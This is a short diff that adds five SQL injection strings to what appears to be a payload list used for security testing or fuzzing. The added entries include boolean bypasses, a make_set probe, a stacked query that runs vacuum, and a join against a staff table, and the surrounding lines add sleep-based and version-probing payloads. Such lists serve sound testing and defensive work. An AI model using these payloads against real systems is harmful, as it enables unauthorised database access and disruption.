@@ -107,6 +107,11 @@ a' union (select staff)
 1 group by 1,b having 1=1
 1 asc,sleep(5)
 cast(@@version as int)
+'or true::text='true
+1" make_set(2=3,4)-- -
+'; vacuum-- -
+x',2)-- -
+1' natural join staff-- -
 convert(int,@@version)
 `
 
